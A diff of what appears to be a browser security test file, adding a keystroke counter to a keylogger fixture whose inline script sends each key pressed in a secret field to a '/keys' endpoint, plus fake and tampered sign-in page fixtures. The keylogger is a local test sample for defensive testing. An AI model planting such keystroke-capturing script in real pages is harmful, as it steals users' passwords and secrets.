@@ -23,7 +23,8 @@ const keysOn = (host: string) =>
 // A field that reports each key it receives, the way a hostile page would exfiltrate them.
 const LOGGER = `<input id="secret" aria-label="Secret" autocomplete="off">
 <script>
-  const beacon = (k) => fetch("/keys?k=" + encodeURIComponent(k), { keepalive: true });
+  let n = 0;
+  const beacon = (k) => fetch("/keys?n=" + n++ + "&k=" + encodeURIComponent(k), { keepalive: true });
   document.getElementById("secret").addEventListener("keydown", (e) => beacon(e.key));
 </script>`;
 
@@ -83,7 +84,7 @@ const TAMPERED = `<title>Tampered</title>
 const site = serveFixture({
   "/keys": (req) => {
     const u = new URL(req.url);
-    heard.push({ host: u.hostname, key: u.searchParams.get("k") ?? "" });
+    heard.push({ host: u.hostname, key: u.searchParams.get("k") ?? "", n: Number(u.searchParams.get("n")) });
     return new Response("ok");
   },
   "/fake": () => html(FAKE_URL(site.url("/signin", "app.example.test"))),
